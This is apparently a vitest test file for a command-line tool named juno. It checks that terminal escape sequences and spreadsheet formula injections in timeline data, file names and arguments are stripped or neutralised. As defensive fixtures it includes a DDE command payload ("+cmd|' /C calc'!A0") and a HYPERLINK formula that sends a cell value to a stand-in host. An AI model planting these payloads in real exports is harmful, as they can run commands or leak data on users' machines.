// Data, file names and arguments cannot drive the terminal or a spreadsheet. (How output ends when the reader
// goes away is a matter for a real process: tests/e2e/injection.test.ts.)
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMain } from '../helpers.js';

/** OSC title change, clear screen, bell, an SGR colour, a C1 CSI, a bidirectional override, a backspace. */
const EVIL = '\u001b]0;owned\u0007\u001b[2J\u0007\u001b[31m\u009b1m\u202e\b';
/** The text left of EVIL once control characters are stripped. */
const EVIL_RESIDUE = ']0;owned[2J[31m1m';

/** Any control character except newline; CR only before a newline (CSV line ends); tab only in TSV. */
function assertNoControls(text: string, { tabs = false } = {}): void {
  const withoutLineEnds = text.replace(/\r\n/g, '\n');
  const pattern = tabs
    ? /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
    : /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
  expect(withoutLineEnds).not.toMatch(pattern);
}

/** juno's own colours are SGR sequences `ESC [ digits m`; nothing else may start with ESC. */
const JUNO_SGR = /\u001b\[\d+m/g;

function hostileTimeline(): unknown {
  return {
    series: 'evil',
    title: `Title${EVIL}`,
    releaseId: `2014.2${EVIL}`,
    description: `Description${EVIL}`,
    phases: [{ id: 'dev', name: `Phase${EVIL}`, from: 'kickoff', until: 'release' }],
    events: [
      {
        id: 'kickoff',
        name: `Kick-off${EVIL}`,
        kind: 'other',
        start: '2014-09-01',
        title: `T${EVIL}`,
        notes: `Notes${EVIL}\nsecond line`,
        location: `=HYPERLINK("http://evil/"&A1)${EVIL}`,
        project: `+cmd|' /C calc'!A0${EVIL}`,
        sources: [`https://example.org/${EVIL}`],
      },
      {
        id: 'release',
        name: `@SUM(1+1)${EVIL}`,
        kind: 'release',
        start: '2014-10-16',
        location: ` =1+1${EVIL}`,
        project: `\t-2+3${EVIL}`,
      },
      { id: 'cr', name: `\r=1+1${EVIL}`, kind: 'other', start: '2014-10-20', location: '-5' },
    ],
    info: {
      projects: {
        integrated: [{ name: `Proj${EVIL}`, description: `Desc${EVIL}` }],
        incubated: [],
        applied: [],
        notes: `Notes${EVIL}`,
      },
      highlights: [`Highlight${EVIL}`],
      summits: [{ event: 'kickoff', city: `City${EVIL}`, when: `When${EVIL}`, attendees: `1${EVIL}` }],
      context: [`Context${EVIL}`],
    },
  };
}

let dir: string;
let timeline: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'juno-injection-'));
  timeline = join(dir, 'evil.json');
  writeFileSync(timeline, JSON.stringify(hostileTimeline()));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const RUNS: [command: string, format: string][] = [
  ['schedule', 'table'],
  ['schedule', 'json'],
  ['schedule', 'csv'],
  ['schedule', 'tsv'],
  ['schedule', 'markdown'],
  ['info', 'text'],
  ['info', 'json'],
];

describe.concurrent('escape sequences in data never reach the terminal', () => {
  it.for(RUNS)('juno %s --format %s, colour off and on', async ([command, format], { expect }) => {
    const args = [command, '--timeline', timeline, '--date', '2014-09-21', '--format', format];
    const plain = await runMain([...args, '--color', 'never']);
    const coloured = await runMain([...args, '--color', 'always']);
    for (const result of [plain, coloured]) {
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
    }
    assertNoControls(plain.stdout, { tabs: format === 'tsv' });
    expect(plain.stdout).toContain(format === 'json' ? EVIL_RESIDUE.replace(/[\\"]/g, '\\$&') : '[2J');
    // Colour adds juno's own SGR codes and nothing else: without them, the output is the plain one.
    const sgrFree = coloured.stdout.replace(JUNO_SGR, '');
    assertNoControls(sgrFree, { tabs: format === 'tsv' });
    if (format === 'table' || format === 'text') expect(coloured.stdout).toMatch(JUNO_SGR);
    expect(sgrFree).toBe(plain.stdout);
  });
});

describe('spreadsheet formulas are neutralised', () => {
  it.each(['csv', 'tsv'])('in %s', async (format) => {
    const result = await runMain(['--timeline', timeline, '--date', '2014-09-21', '--format', format]);
    expect(result.code).toBe(0);
    const sep = format === 'csv' ? ',' : '\t';
    const lines = result.stdout.split(/\r?\n/).filter(Boolean);
    const cells = lines.slice(1).flatMap((line) => line.split(sep));
    for (const cell of cells) {
      const text = cell.replace(/^"/, '');
      if (/^-?\d+$/.test(text)) continue;
      expect(text).not.toMatch(/^\s*[=+\-@]/);
    }
    const expected = [
      `'=HYPERLINK(`,
      `'+cmd|' /C calc'!A0`,
      `'@SUM(1+1)`,
      `' =1+1`,
      // A tab before the formula is a space now: still one cell, still neutralised.
      `' -2+3`,
      `' =1+1${EVIL_RESIDUE}`,
    ];
    for (const text of expected) expect(result.stdout).toContain(text);
    // A plain negative number is data, not a formula.
    expect(result.stdout).toMatch(new RegExp(`${sep}-5\\r?\\n`));
  });
});

describe('messages that echo names and values', () => {
  it('strips control characters from file names', async () => {
    const name = join(dir, `missing${EVIL}.json`);
    const result = await runMain(['--timeline', name]);
    expect(result.code).toBe(3);
    assertNoControls(result.stderr);
    expect(result.stderr).toContain(`missing${EVIL_RESIDUE}.json: cannot read the timeline: no such file`);
  });

  it('strips control characters from invalid values and keys', async () => {
    const file = join(dir, `bad${EVIL}.yaml`);
    writeFileSync(
      file,
      JSON.stringify({
        series: `s${EVIL}`,
        [`key${EVIL}`]: 1,
        events: [{ id: `id${EVIL}`, name: 'n', kind: `k${EVIL}`, start: `d${EVIL}`, confidence: EVIL }],
      }),
    );
    const result = await runMain(['--timeline', file]);
    expect(result.code).toBe(3);
    expect(result.stdout).toBe('');
    assertNoControls(result.stderr);
    expect(result.stderr.split('\n').filter(Boolean)).toHaveLength(5);
  });

  it('strips control characters from arguments echoed in usage errors', async () => {
    for (const args of [
      ['schedule', '--format', EVIL],
      ['--color', EVIL],
      [`--${EVIL}`],
      [`sch${EVIL}`],
      ['--kind', EVIL],
      ['--date', EVIL],
    ]) {
      const result = await runMain(args);
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      assertNoControls(result.stderr);
      expect(result.stderr).toMatch(/^juno: /);
    }
  });
});
